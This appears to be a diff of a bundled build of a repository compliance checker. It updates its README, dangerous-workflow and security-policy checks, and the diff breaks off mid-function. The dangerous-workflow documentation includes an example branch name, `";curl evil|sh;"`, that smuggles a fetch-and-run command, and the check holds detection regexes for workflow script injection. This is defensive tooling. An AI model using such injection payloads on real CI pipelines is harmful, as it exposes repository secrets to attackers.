@@ -4678,7 +4678,7 @@ var require_range = __commonJS({
         range = range.replace(BUILDSTRIPRE, "");
         const memoOpts = (this.options.includePrerelease && FLAG_INCLUDE_PRERELEASE) | (this.options.loose && FLAG_LOOSE);
         const memoKey = memoOpts + ":" + range;
-        const cached = cache.get(memoKey);
+        const cached = cache2.get(memoKey);
         if (cached) {
           return cached;
         }
@@ -4712,7 +4712,7 @@ var require_range = __commonJS({
           rangeMap.delete("");
         }
         const result = [...rangeMap.values()];
-        cache.set(memoKey, result);
+        cache2.set(memoKey, result);
         return result;
       }
       intersects(range, options) {
@@ -4751,7 +4751,7 @@ var require_range = __commonJS({
     };
     module.exports = Range;
     var LRU = require_lrucache();
-    var cache = new LRU();
+    var cache2 = new LRU();
     var parseOptions = require_parse_options();
     var Comparator = require_comparator();
     var debug = require_debug();
@@ -7334,13 +7334,13 @@ var require_ignore = __commonJS({
         return this.add(pattern);
       }
       // @returns {TestResult}
-      _test(originalPath, cache, path) {
+      _test(originalPath, cache2, path) {
         checkPath(
           path,
           originalPath,
           this._strictPathCheck ? throwError : RETURN_FALSE
         );
-        return path ? this._t(path, cache) : {
+        return path ? this._t(path, cache2) : {
           ignored: false,
           unignored: false
         };
@@ -7357,13 +7357,13 @@ var require_ignore = __commonJS({
         const literal = this._rules.testLiteral(path);
         return literal.ignored || literal.unignored ? literal : dir;
       }
-      _t(path, cache) {
-        if (path in cache) {
-          return cache[path];
+      _t(path, cache2) {
+        if (path in cache2) {
+          return cache2[path];
         }
         const parentPath = parentOf(path);
-        const parent = parentPath ? this._t(parentPath, cache) : UNDEFINED;
-        return cache[path] = parent && parent.ignored ? parent : this._rules.test(path, MODE_IGNORE);
+        const parent = parentPath ? this._t(parentPath, cache2) : UNDEFINED;
+        return cache2[path] = parent && parent.ignored ? parent : this._rules.test(path, MODE_IGNORE);
       }
       ignores(path) {
         return this._test(path, this._ignoreCache, convertPath(path)).ignored;
@@ -11363,10 +11363,10 @@ var require_resolve_block_map = __commonJS({
       let offset = bm.offset;
       let commentEnd = null;
       for (const collItem of bm.items) {
-        const { start, key, sep: sep4, value } = collItem;
+        const { start, key, sep: sep5, value } = collItem;
         const keyProps = resolveProps.resolveProps(start, {
           indicator: "explicit-key-ind",
-          next: key ?? sep4?.[0],
+          next: key ?? sep5?.[0],
           offset,
           onError,
           parentIndent: bm.indent,
@@ -11380,7 +11380,7 @@ var require_resolve_block_map = __commonJS({
             else if ("indent" in key && key.indent !== bm.indent)
               onError(offset, "BAD_INDENT", startColMsg);
           }
-          if (!keyProps.anchor && !keyProps.tag && !sep4) {
+          if (!keyProps.anchor && !keyProps.tag && !sep5) {
             commentEnd = keyProps.end;
             if (keyProps.comment) {
               if (map.comment)
@@ -11404,7 +11404,7 @@ var require_resolve_block_map = __commonJS({
         ctx.atKey = false;
         if (utilMapIncludes.mapIncludes(ctx, map.items, keyNode))
           onError(keyStart, "DUPLICATE_KEY", "Map keys must be unique");
-        const valueProps = resolveProps.resolveProps(sep4 ?? [], {
+        const valueProps = resolveProps.resolveProps(sep5 ?? [], {
           indicator: "map-value-ind",
           next: value,
           offset: keyNode.range[2],
@@ -11420,7 +11420,7 @@ var require_resolve_block_map = __commonJS({
             if (ctx.options.strict && keyProps.start < valueProps.found.offset - 1024)
               onError(keyNode.range, "KEY_OVER_1024_CHARS", "The : indicator must be at most 1024 chars after the start of an implicit block mapping key");
           }
-          const valueNode = value ? composeNode(ctx, value, valueProps, onError) : composeEmptyNode(ctx, offset, sep4, null, valueProps, onError);
+          const valueNode = value ? composeNode(ctx, value, valueProps, onError) : composeEmptyNode(ctx, offset, sep5, null, valueProps, onError);
           if (ctx.schema.compat)
             utilFlowIndentCheck.flowIndentCheck(bm.indent, value, onError);
           offset = valueNode.range[2];
@@ -11511,7 +11511,7 @@ var require_resolve_end = __commonJS({
       let comment = "";
       if (end) {
         let hasSpace = false;
-        let sep4 = "";
+        let sep5 = "";
         for (const token of end) {
           const { source, type } = token;
           switch (type) {
@@ -11525,13 +11525,13 @@ var require_resolve_end = __commonJS({
               if (!comment)
                 comment = cb;
               else
-                comment += sep4 + cb;
-              sep4 = "";
+                comment += sep5 + cb;
+              sep5 = "";
               break;
             }
             case "newline":
               if (comment)
-                sep4 += source;
+                sep5 += source;
               hasSpace = true;
               break;
             default:
@@ -11574,18 +11574,18 @@ var require_resolve_flow_collection = __commonJS({
       let offset = fc.offset + fc.start.source.length;
       for (let i = 0; i < fc.items.length; ++i) {
         const collItem = fc.items[i];
-        const { start, key, sep: sep4, value } = collItem;
+        const { start, key, sep: sep5, value } = collItem;
         const props = resolveProps.resolveProps(start, {
           flow: fcName,
           indicator: "explicit-key-ind",
-          next: key ?? sep4?.[0],
+          next: key ?? sep5?.[0],
           offset,
           onError,
           parentIndent: fc.indent,
           startOnNewline: false
         });
         if (!props.found) {
-          if (!props.anchor && !props.tag && !sep4 && !value) {
+          if (!props.anchor && !props.tag && !sep5 && !value) {
             if (i === 0 && props.comma)
               onError(props.comma, "UNEXPECTED_TOKEN", `Unexpected , in ${fcName}`);
             else if (i < fc.items.length - 1)
@@ -11639,8 +11639,8 @@ var require_resolve_flow_collection = __commonJS({
             }
           }
         }
-        if (!isMap3 && !sep4 && !props.found) {
-          const valueNode = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, sep4, null, props, onError);
+        if (!isMap3 && !sep5 && !props.found) {
+          const valueNode = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, sep5, null, props, onError);
           coll.items.push(valueNode);
           offset = valueNode.range[2];
           if (isBlock(value))
@@ -11652,7 +11652,7 @@ var require_resolve_flow_collection = __commonJS({
           if (isBlock(key))
             onError(keyNode.range, "BLOCK_IN_FLOW", blockMsg);
           ctx.atKey = false;
-          const valueProps = resolveProps.resolveProps(sep4 ?? [], {
+          const valueProps = resolveProps.resolveProps(sep5 ?? [], {
             flow: fcName,
             indicator: "map-value-ind",
             next: value,
@@ -11663,8 +11663,8 @@ var require_resolve_flow_collection = __commonJS({
           });
           if (valueProps.found) {
             if (!isMap3 && !props.found && ctx.options.strict) {
-              if (sep4)
-                for (const st3 of sep4) {
+              if (sep5)
+                for (const st3 of sep5) {
                   if (st3 === valueProps.found)
                     break;
                   if (st3.type === "newline") {
@@ -11681,7 +11681,7 @@ var require_resolve_flow_collection = __commonJS({
             else
               onError(valueProps.start, "MISSING_CHAR", `Missing , or : between ${fcName} items`);
           }
-          const valueNode = value ? composeNode(ctx, value, valueProps, onError) : valueProps.found ? composeEmptyNode(ctx, valueProps.end, sep4, null, valueProps, onError) : null;
+          const valueNode = value ? composeNode(ctx, value, valueProps, onError) : valueProps.found ? composeEmptyNode(ctx, valueProps.end, sep5, null, valueProps, onError) : null;
           if (valueNode) {
             if (isBlock(value))
               onError(valueNode.range, "BLOCK_IN_FLOW", blockMsg);
@@ -11861,7 +11861,7 @@ var require_resolve_block_scalar = __commonJS({
           chompStart = i + 1;
       }
       let value = "";
-      let sep4 = "";
+      let sep5 = "";
       let prevMoreIndented = false;
       for (let i = 0; i < contentStart; ++i)
         value += lines[i][0].slice(trimIndent) + "\n";
@@ -11878,24 +11878,24 @@ var require_resolve_block_scalar = __commonJS({
           indent = "";
         }
         if (type === Scalar.Scalar.BLOCK_LITERAL) {
-          value += sep4 + indent.slice(trimIndent) + content;
-          sep4 = "\n";
+          value += sep5 + indent.slice(trimIndent) + content;
+          sep5 = "\n";
         } else if (indent.length > trimIndent || content[0] === "	") {
-          if (sep4 === " ")
-            sep4 = "\n";
-          else if (!prevMoreIndented && sep4 === "\n")
-            sep4 = "\n\n";
-          value += sep4 + indent.slice(trimIndent) + content;
-          sep4 = "\n";
+          if (sep5 === " ")
+            sep5 = "\n";
+          else if (!prevMoreIndented && sep5 === "\n")
+            sep5 = "\n\n";
+          value += sep5 + indent.slice(trimIndent) + content;
+          sep5 = "\n";
           prevMoreIndented = true;
         } else if (content === "") {
-          if (sep4 === "\n")
+          if (sep5 === "\n")
             value += "\n";
           else
-            sep4 = "\n";
+            sep5 = "\n";
         } else {
-          value += sep4 + content;
-          sep4 = " ";
+          value += sep5 + content;
+          sep5 = " ";
           prevMoreIndented = false;
         }
       }
@@ -12078,25 +12078,25 @@ var require_resolve_flow_scalar = __commonJS({
         trimBoth = /^[ \t]+|[ \t]+$/g;
       }
       let res = match[1].replace(trimEnd, "");
-      let sep4 = " ";
+      let sep5 = " ";
       let pos = line.lastIndex;
       while (match = line.exec(source)) {
         const lm = match[1].replace(trimBoth, "");
         if (lm === "") {
-          if (sep4 === "\n")
-            res += sep4;
+          if (sep5 === "\n")
+            res += sep5;
           else
-            sep4 = "\n";
+            sep5 = "\n";
         } else {
-          res += sep4 + lm;
-          sep4 = " ";
+          res += sep5 + lm;
+          sep5 = " ";
         }
         pos = line.lastIndex;
       }
       const last = /[ \t]*(.*)/sy;
       last.lastIndex = pos;
       match = last.exec(source);
-      return res + sep4 + (match?.[1] ?? "");
+      return res + sep5 + (match?.[1] ?? "");
     }
     function doubleQuotedValue(source, onError) {
       let res = "";
@@ -12906,14 +12906,14 @@ var require_cst_stringify = __commonJS({
         }
       }
     }
-    function stringifyItem({ start, key, sep: sep4, value }) {
+    function stringifyItem({ start, key, sep: sep5, value }) {
       let res = "";
       for (const st3 of start)
         res += st3.source;
       if (key)
         res += stringifyToken(key);
-      if (sep4)
-        for (const st3 of sep4)
+      if (sep5)
+        for (const st3 of sep5)
           res += st3.source;
       if (value)
         res += stringifyToken(value);
@@ -14080,18 +14080,18 @@ var require_parser = __commonJS({
         if (this.type === "map-value-ind") {
           const prev = getPrevProps(this.peek(2));
           const start = getFirstKeyStartProps(prev);
-          let sep4;
+          let sep5;
           if (scalar.end) {
-            sep4 = scalar.end;
-            sep4.push(this.sourceToken);
+            sep5 = scalar.end;
+            sep5.push(this.sourceToken);
             delete scalar.end;
           } else
-            sep4 = [this.sourceToken];
+            sep5 = [this.sourceToken];
           const map = {
             type: "block-map",
             offset: scalar.offset,
             indent: scalar.indent,
-            items: [{ start, key: scalar, sep: sep4 }]
+            items: [{ start, key: scalar, sep: sep5 }]
           };
           this.onKeyLine = true;
           this.stack[this.stack.length - 1] = map;
@@ -14244,15 +14244,15 @@ var require_parser = __commonJS({
                 } else if (isFlowToken(it3.key) && !includesToken(it3.sep, "newline")) {
                   const start2 = getFirstKeyStartProps(it3.start);
                   const key = it3.key;
-                  const sep4 = it3.sep;
-                  sep4.push(this.sourceToken);
+                  const sep5 = it3.sep;
+                  sep5.push(this.sourceToken);
                   delete it3.key;
                   delete it3.sep;
                   this.stack.push({
                     type: "block-map",
                     offset: this.offset,
                     indent: this.indent,
-                    items: [{ start: start2, key, sep: sep4 }]
+                    items: [{ start: start2, key, sep: sep5 }]
                   });
                 } else if (start.length > 0) {
                   it3.sep = it3.sep.concat(start, this.sourceToken);
@@ -14446,13 +14446,13 @@ var require_parser = __commonJS({
             const prev = getPrevProps(parent);
             const start = getFirstKeyStartProps(prev);
             fixFlowSeqItems(fc);
-            const sep4 = fc.end.splice(1, fc.end.length);
-            sep4.push(this.sourceToken);
+            const sep5 = fc.end.splice(1, fc.end.length);
+            sep5.push(this.sourceToken);
             const map = {
               type: "block-map",
               offset: fc.offset,
               indent: fc.indent,
-              items: [{ start, key: fc, sep: sep4 }]
+              items: [{ start, key: fc, sep: sep5 }]
             };
             this.onKeyLine = true;
             this.stack[this.stack.length - 1] = map;
@@ -30535,6 +30535,14 @@ var {
   Help
 } = import_index.default;
 
+// src/core/printable.ts
+function printable(text2) {
+  return text2.replace(
+    /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/g,
+    (c3) => c3 === "\n" ? "\\n" : c3 === "\r" ? "\\r" : c3 === "	" ? " " : `\\u${c3.charCodeAt(0).toString(16).padStart(4, "0")}`
+  );
+}
+
 // src/core/errors.ts
 var UsageError = class extends Error {
   name = "UsageError";
@@ -30542,7 +30550,9 @@ var UsageError = class extends Error {
 var ConfigError = class extends UsageError {
   constructor(problems) {
     super(
-      problems.map((p2) => `${p2.file}${p2.line ? `:${p2.line}${p2.column ? `:${p2.column}` : ""}` : ""}: ${p2.key ? `${p2.key}: ` : ""}${p2.message}`).join("\n")
+      problems.map(
+        (p2) => printable(`${p2.file}${p2.line ? `:${p2.line}${p2.column ? `:${p2.column}` : ""}` : ""}: ${p2.key ? `${p2.key}: ` : ""}${p2.message}`)
+      ).join("\n")
     );
     this.problems = problems;
   }
@@ -32071,9 +32081,20 @@ var qn = P.parse;
 var vn = w.lex;
 
 // src/core/markdown.ts
-var PROSE = /* @__PURE__ */ new Set(["paragraph", "list", "blockquote", "text", "table"]);
+var PROSE = /* @__PURE__ */ new Set(["paragraph", "list", "blockquote", "text", "table", "html"]);
+var MAX_ANALYSED_CHARS = 1e5;
+var cache = /* @__PURE__ */ new Map();
+var CACHE_SIZE = 16;
 function outline(source) {
-  const text2 = source.replace(/\r\n?/g, "\n");
+  const cached = cache.get(source);
+  if (cached) return cached;
+  const result = computeOutline(source);
+  if (cache.size >= CACHE_SIZE) cache.delete(cache.keys().next().value);
+  cache.set(source, result);
+  return result;
+}
+function computeOutline(source) {
+  const text2 = source.slice(0, MAX_ANALYSED_CHARS).replace(/\r\n?/g, "\n");
   let tokens;
   try {
     tokens = new w({ gfm: true }).lex(text2);
@@ -32099,7 +32120,7 @@ function outline(source) {
   return { headings, blocks, words };
 }
 function plain(markdown) {
-  return markdown.replace(/!\[[^\]]*\]\([^)]*\)/g, " ").replace(/\[([^\]]*)\]\([^)]*\)/g, "$1").replace(/\[([^\]]*)\]\[[^\]]*\]/g, "$1").replace(/<\/?[A-Za-z][\w-]*(\s[^>]*)?\/?>/g, " ").replace(/[*_`#>|~]+/g, " ").replace(/\s+/g, " ").trim();
+  return markdown.replace(/!\[[^[\]]*\]\([^()]*\)/g, " ").replace(/\[([^[\]]*)\]\([^()]*\)/g, "$1").replace(/\[([^[\]]*)\]\[[^[\]]*\]/g, "$1").replace(/<\/?[A-Za-z][\w-]*(\s[^<>]*)?\/?>/g, " ").replace(/[*_`#>|~]+/g, " ").replace(/\s+/g, " ").trim();
 }
 function countWords(text2) {
   return (text2.match(/[\p{L}\p{N}][\p{L}\p{N}'’-]*/gu) ?? []).length;
@@ -32422,7 +32443,7 @@ var check4 = {
 };
 
 // checks/docs/readme/README.md
-var README_default5 = '# readme: README that says what the project is and how to use it\n\n**Family:** docs \xB7 **Level:** 1 \xB7 **Options:** `min-words` (default 50)\n\n## What it checks\nA README in the repository root (or `.github/`, `docs/`, where forges also show it) that:\n- is a readable text file (not binary, not over the read limit);\n- has a description: a paragraph of at least 8 words before its second heading;\n- has a usage or installation section: a heading such as *Installation*, *Usage*,\n  *Getting started*, *Quick start*, *Examples* (also *Utilisation*, *Installazione*,\n  *Verwendung*, *Instalaci\xF3n* and others), or in a plain-text README a line such as `Usage:`;\n- has at least `min-words` words of prose (code blocks and HTML do not count);\n- no longer contains template text (the GitLab or Bitbucket default README, lorem ipsum,\n  "TODO: write ...").\n\n## Why it matters\nThe README is where a public administration or an SME decides whether a component fits.\nA project that does not say what it does, or how to install it, cannot be adopted.\n\n## Evidence for\nOSPS Baseline OSPS-DO-01.01 (user guides); Best Practices `description_good`, `interact`,\n`documentation_basics`; Standard for Public Code *Document codebase objectives*, *Document the code*.\n\n## How to fix\nStart `README.md` with a paragraph on what the project does and for whom, then add an\n*Installation* and a *Usage* section with the commands a newcomer runs.\n';
+var README_default5 = '# readme: README that says what the project is and how to use it\n\n**Family:** docs \xB7 **Level:** 1 \xB7 **Options:** `min-words` (default 50)\n\n## What it checks\nA README in the repository root (or `.github/`, `docs/`, where forges also show it) that:\n- is a readable text file (not binary, not over the read limit);\n- has a description: a paragraph (Markdown or HTML) of at least 8 words before its fourth\n  heading, so a title, a table of contents and an *About* heading may come first;\n- has a usage or installation section: a heading such as *Installation*, *Usage*,\n  *Getting started*, *Quick start*, *Examples* (also *Utilisation*, *Installazione*,\n  *Verwendung*, *Instalaci\xF3n* and others), or in a plain-text README a line such as `Usage:`;\n- has at least `min-words` words of prose (code blocks and HTML do not count);\n- no longer contains template text (the GitLab or Bitbucket default README, lorem ipsum,\n  "TODO: write ...").\n\n## Why it matters\nThe README is where a public administration or an SME decides whether a component fits.\nA project that does not say what it does, or how to install it, cannot be adopted.\n\n## Evidence for\nOSPS Baseline OSPS-DO-01.01 (user guides); Best Practices `description_good`, `interact`,\n`documentation_basics`; Standard for Public Code *Document codebase objectives*, *Document the code*.\n\n## How to fix\nStart `README.md` with a paragraph on what the project does and for whom, then add an\n*Installation* and a *Usage* section with the commands a newcomer runs.\n';
 
 // checks/docs/readme/index.ts
 var USAGE_HEADING = /\b(usage|using|how to use|install(ation|ing)?|getting[ -]started|get started|quick[ -]?start|set ?up|build(ing)?|run(ning)?|deploy(ment|ing)?|examples?|tutorial|utili[sz]ation|installazione|utilizzo|installation|nutzung|verwendung|instalaci[oó]n|uso|gebruik|installatie|asennus|käyttö)\b/i;
@@ -32486,11 +32507,13 @@ var check5 = {
         remediation: "Describe what the project does, who it is for, how to install it and how to use it."
       });
     }
-    const description = doc.blocks.find((b3) => b3.section <= 0 && b3.type === "paragraph" && b3.text.split(" ").length >= 8);
+    const description = doc.blocks.find(
+      (b3) => b3.section <= 3 && (b3.type === "paragraph" || b3.type === "html") && b3.text.split(" ").length >= 8
+    );
     if (!description) {
       findings.push({
         status: "fail",
-        message: `${entry.path} has no description: no paragraph of at least 8 words before its second heading`,
+        message: `${entry.path} has no description: no paragraph of at least 8 words before its fourth heading`,
         location,
         remediation: "Start the README with a paragraph that says what the project is and what problem it solves."
       });
@@ -36368,15 +36391,20 @@ function lineOfTextIn(workflow, path, needle) {
 }
 
 // checks/security/dangerous-workflow/README.md
-var README_default7 = '# dangerous-workflow: No workflow runs untrusted pull request code with privileges or injects untrusted input into scripts\n\n**Family:** security \xB7 **Level:** 2\n\n## What it checks\nIn every `.github/workflows/*.yml`:\n- **Untrusted checkout.** A job of a workflow triggered by `pull_request_target` or\n  `workflow_run` (which run with a write token and the repository\'s secrets even for pull\n  requests from forks) that checks out the pull request\'s head (`actions/checkout` with a\n  `ref` or `repository` from `github.event.pull_request.head.*`, `github.head_ref`,\n  `github.event.workflow_run.head_*`, `refs/pull/...`; or `gh pr checkout`, `git fetch ...\n  pull/...` in a script) and then runs anything from it (a `run:` step, a local action, or\n  any action other than uploading artifacts or caches).\n- **Script injection.** A `run:` script, or the `script` of `actions/github-script`, that\n  expands `${{ ... }}` of a field an outsider controls: issue, pull request, comment,\n  review and discussion titles and bodies, branch names (`github.head_ref`,\n  `...head.ref`, `workflow_run.head_branch`), commit messages and author names and emails,\n  page names, and `inputs.*`.\n\nEach finding names the workflow, the job and the line. An invalid workflow is a finding too.\nA repository without workflows is not applicable.\n\n## Why it matters\nThese two patterns are how most GitHub Actions supply-chain compromises start: an\nattacker opens a pull request, or names a branch `";curl evil|sh;"`, and runs code with the\nrepository\'s secrets.\n\n## Evidence for\nOSPS Baseline OSPS-BR-01.01, OSPS-BR-01.02 (CI/CD input sanitisation); CRA Annex I Part I(2)(d).\n\n## How to fix\n- Build and test pull requests in a `pull_request` workflow (no secrets, read-only token).\n  If a privileged follow-up is needed, let it download artifacts and treat them as data.\n- Never write `${{ github.event.issue.title }}` (or any untrusted field) inside a script:\n  ```yaml\n  - run: echo "Title: $TITLE"\n    env:\n      TITLE: ${{ github.event.issue.title }}\n  ```\n';
+var README_default7 = "# dangerous-workflow: No workflow runs untrusted pull request code with privileges or injects untrusted input into scripts\n\n**Family:** security \xB7 **Level:** 2\n\n## What it checks\nIn every `.github/workflows/*.yml`:\n- **Untrusted checkout.** A job of a workflow triggered by `pull_request_target` or\n  `workflow_run` (which run with a write token and the repository's secrets even for pull\n  requests from forks) that checks out the pull request's head (`actions/checkout` with a\n  `ref` or `repository` from `github.event.pull_request.head.*`, `github.head_ref`,\n  `github.event.workflow_run.head_*`, `refs/pull/...`; or `gh pr checkout`, `git fetch ...\n  pull/...` in a script) and then runs anything from it (a `run:` step, a local action, or\n  any action other than uploading artifacts or caches).\n- **Script injection.** A `run:` script, or the `script` of `actions/github-script`, that\n  expands `${{ ... }}` of a field an outsider controls: issue, pull request, comment,\n  review and discussion titles and bodies, branch names (`github.head_ref`,\n  `...head.ref`, `workflow_run.head_branch`), commit messages and author names and emails,\n  and page names; also inside functions (`format('{0}', github.event.issue.title)`), in\n  bracket syntax (`github['event']['issue']['title']`), and whole event objects passed to\n  `toJSON`. Workflow `inputs` are not flagged: only people with write access can dispatch\n  a workflow.\n\nEach finding names the workflow, the job and the line. An invalid workflow is a finding too.\nA repository without workflows is not applicable.\n\n## Why it matters\nThese two patterns are how most GitHub Actions supply-chain compromises start: an\nattacker opens a pull request, or names a branch `\";curl evil|sh;\"`, and runs code with the\nrepository's secrets.\n\n## Evidence for\nOSPS Baseline OSPS-BR-01.01, OSPS-BR-01.02 (CI/CD input sanitisation); CRA Annex I Part I(2)(d).\n\n## How to fix\n- Build and test pull requests in a `pull_request` workflow (no secrets, read-only token).\n  If a privileged follow-up is needed, let it download artifacts and treat them as data.\n- Never write `${{ github.event.issue.title }}` (or any untrusted field) inside a script:\n  ```yaml\n  - run: echo \"Title: $TITLE\"\n    env:\n      TITLE: ${{ github.event.issue.title }}\n  ```\n";
 
 // checks/security/dangerous-workflow/index.ts
 var PRIVILEGED_TRIGGERS = ["pull_request_target", "workflow_run"];
 var UNTRUSTED_REF = /github\.event\.pull_request\.head\.(sha|ref|repo\.full_name)|github\.head_ref|github\.event\.workflow_run\.(head_sha|head_branch|head_repository\.full_name|pull_requests)|github\.event\.pull_request\.merge_commit_sha|refs\/pull\/|github\.event\.number/;
-var UNTRUSTED_FETCH = /gh\s+pr\s+checkout|git\s+(fetch|checkout|pull)\b[^\n]*(pull\/|\$\{\{\s*github\.(head_ref|event\.pull_request\.head))/;
+var GH_PR_CHECKOUT = /\bgh\s+pr\s+checkout\b/;
+var GIT_FETCH = /\bgit\s+(fetch|checkout|pull)\b/;
+var PR_REF = /pull\/|\$\{\{\s*github\.(head_ref|event\.pull_request\.head)/;
+var fetchesUntrusted = (script) => script.split("\n").some((line) => GH_PR_CHECKOUT.test(line) || GIT_FETCH.test(line) && PR_REF.test(line));
 var INERT_ACTIONS = /^actions\/(upload-artifact|download-artifact|cache\/save|checkout)@/;
-var UNTRUSTED_INPUT = /github\s*\.\s*(head_ref|event\s*\.\s*(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|pages(\[[^\]]*\]|\.\*)?\.page_name|commits(\[[^\]]*\]|\.\*)?\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name))|pull_requests(\[[^\]]*\]|\.\*)?\.head\.(ref|branch))|discussion\.(title|body)|discussion_comment\.body|inputs\.[\w-]+))/;
-var EXPRESSION = /\$\{\{([^}]*)\}\}/g;
+var UNTRUSTED_INPUT = /github\s*\.\s*(head_ref|event\s*\.\s*(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|pages(\[[^\]]*\]|\.\*)?\.page_name|commits(\[[^\]]*\]|\.\*)?\.(message|author\.(email|name))|head_commit\.(message|author\.(email|name))|workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name))|pull_requests(\[[^\]]*\]|\.\*)?\.head\.(ref|branch))|discussion\.(title|body)|discussion_comment\.body))/;
+var UNTRUSTED_OBJECT = /toJSON\(\s*github\s*\.\s*event(\s*\.\s*(issue|comment|pull_request|review|review_comment|discussion|discussion_comment|head_commit|commits|pages|workflow_run))?\s*\)/;
+var EXPRESSION = /\$\{\{([\s\S]{0,2000}?)\}\}/g;
+var normaliseExpression = (expr) => expr.replace(/\[\s*(['"])([\w-]+)\1\s*\]/g, ".$2");
 var check7 = {
   meta: {
     id: "dangerous-workflow",
@@ -36403,7 +36431,7 @@ function untrustedCheckouts(workflow) {
   for (const [jobId, job] of Object.entries(workflow.doc.jobs ?? {})) {
     const steps = Array.isArray(job?.steps) ? job.steps : [];
     const index = steps.findIndex(
-      (s) => typeof s?.uses === "string" && s.uses.startsWith("actions/checkout") && UNTRUSTED_REF.test(JSON.stringify(s.with ?? {})) || typeof s?.run === "string" && UNTRUSTED_FETCH.test(s.run)
+      (s) => typeof s?.uses === "string" && s.uses.startsWith("actions/checkout") && UNTRUSTED_REF.test(JSON.stringify(s.with ?? {})) || typeof s?.run === "string" && fetchesUntrusted(s.run)
     );
     if (index < 0) continue;
     const runner = steps.slice(index + 1).find((s) => typeof s?.run === "string" || typeof s?.uses === "string" && !INERT_ACTIONS.test(s.uses));
@@ -36430,7 +36458,8 @@ function scriptInjections(workflow) {
       }
       for (const [script, path] of scripts) {
         for (const m2 of script.matchAll(EXPRESSION)) {
-          const input = UNTRUSTED_INPUT.exec(m2[1]);
+          const expr = normaliseExpression(m2[1]);
+          const input = UNTRUSTED_INPUT.exec(expr) ?? UNTRUSTED_OBJECT.exec(expr);
           if (!input) continue;
           findings.push({
             status: "fail",
@@ -36604,12 +36633,14 @@ function renovateVerdict(name, path, config) {
 var README_default9 = "# security-policy: Security policy with a private reporting channel and a disclosure process\n\n**Family:** security \xB7 **Level:** 1\n\n## What it checks\nA `SECURITY` file (`SECURITY.md`, `.rst`, `.txt`) in the root, `.github/` or `docs/` (where\nGitHub looks for it) that:\n- gives a **private** reporting channel: an email address (not a no-reply address), or a\n  private reporting URL (GitHub's `/security/advisories/new`, a confidential GitLab issue,\n  a bug-bounty platform, a security contact page), or mentions GitHub private vulnerability\n  reporting. A link to the public issue tracker alone fails: it publishes the vulnerability;\n- describes a disclosure process: response times, coordination or embargo, advisories or CVEs;\n- is not GitHub's unfilled template.\n\n## Why it matters\nReporters who find a vulnerability need a way to tell the maintainers without telling\nattackers. The Cyber Resilience Act requires stewards and manufacturers to have a\ncoordinated vulnerability disclosure policy and a contact address.\n\n## Evidence for\nOSPS Baseline OSPS-VM-01.01, OSPS-VM-02.01, OSPS-VM-03.01; Best Practices\n`vulnerability_report_process`, `vulnerability_report_private`,\n`vulnerability_report_response`; CRA Art. 24(1), Annex I Part II(5) and (6).\n\n## How to fix\n```markdown\n# Security policy\nPlease report vulnerabilities privately to security@example.eu or through\nhttps://github.com/OWNER/REPO/security/advisories/new - not in public issues.\nWe acknowledge reports within 5 working days, agree a disclosure date with you,\nand publish a GitHub security advisory (with a CVE) when the fix is released.\n```\n";
 
 // checks/security/security-policy/index.ts
-var EMAIL = /(?:mailto:)?\b([A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,})\b/g;
-var URL_PATTERN = /https?:\/\/[^\s)>\]"'`]+/g;
-var PRIVATE_URL = /\/security\/advisories\/new|\/security\/policy|confidential=true|hackerone\.com|bugcrowd\.com|intigriti\.com|yeswehack\.com|huntr\.(dev|com)|openbugbounty|security|vulnerab|disclos|\/\.well-known\/security\.txt/i;
-var PUBLIC_TRACKER = /\/issues\/?(new)?\/?$|\/issues\/new(\?|$)|\/-\/issues\/?$/i;
-var PRIVATE_REPORTING_FEATURE = /private (vulnerability )?report|report a vulnerability|security advisor(y|ies)|security tab/i;
-var DISCLOSURE = /disclos|embargo|coordinated|advisor(y|ies)|\bCVE\b|\b\d+\s*(business\s+|working\s+)?(days?|hours?|weeks?)\b|acknowledge|respond|triage|timeline/i;
+var URL_PATTERN = /https?:\/\/[^\s)>\]"'`<]{1,2000}/g;
+var PRIVATE_URL = /\/security\/advisories\/new|\/security\/policy|confidential=true|hackerone\.com\/|bugcrowd\.com\/|intigriti\.com\/|yeswehack\.com\/|huntr\.(dev|com)\/|\/\.well-known\/security\.txt/i;
+var PUBLIC_URL = /\/(issues|discussions|pulls|merge_requests)(\/|\?|#|$)|\/-\/issues|wikipedia\.org|owasp\.org|cheatsheetseries|first\.org\/cvss/i;
+var FORGE_HOST = /^https?:\/\/(www\.)?(github\.com|gitlab\.com|codeberg\.org|bitbucket\.org)\//i;
+var SECURITY_PAGE = /^https?:\/\/[^/]+\/[^?#]*(security|vulnerab|disclos|responsible)/i;
+var PRIVATE_REPORTING_FEATURE = /private vulnerability reporting|privately report|report(ing)? (a vulnerability |vulnerabilities |it |them |issues )?privately|"report a vulnerability" button/i;
+var OBFUSCATED_EMAIL = /\b[\w.+-]{1,64}\s?(?:\[at\]|\(at\)|\sat\s)\s?[\w-]{1,63}(?:\s?(?:\[dot\]|\(dot\)|\sdot\s|\.)\s?[\w-]{1,63}){1,4}\b/i;
+var DISCLOSURE = /disclos|embargo|coordinated|advisor(y|ies)|\bCVE\b|\b\d{1,3}\s?(business\s|working\s|calendar\s)?(days?|hours?|weeks?)\b|timeline/i;
 var TEMPLATE = /Use this section to tell people about which versions of your project are\s+currently being supported/i;
 var check9 = {
   meta: {
@@ -36683,23 +36714,38 @@ var check9 = {
   }
 };
 function privateChannel(text2) {
-  for (const m2 of text2.matchAll(EMAIL)) {
-    const address = m2[1];
-    if (/noreply|no-reply|example\.(com|org)/i.test(address)) continue;
-    return { found: address, line: lineOf(text2, m2.index) };
+  for (const { address, index } of emails(text2)) {
+    if (/noreply|no-reply|example\.(com|org)$/i.test(address)) continue;
+    return { found: address, line: lineOf(text2, index) };
   }
   let publicOnly;
   for (const m2 of text2.matchAll(URL_PATTERN)) {
     const url = m2[0].replace(/[.,;:]+$/, "");
-    if (PUBLIC_TRACKER.test(url)) {
-      publicOnly ??= { url, line: lineOf(text2, m2.index) };
+    if (PRIVATE_URL.test(url)) return { found: url, line: lineOf(text2, m2.index) };
+    if (PUBLIC_URL.test(url)) {
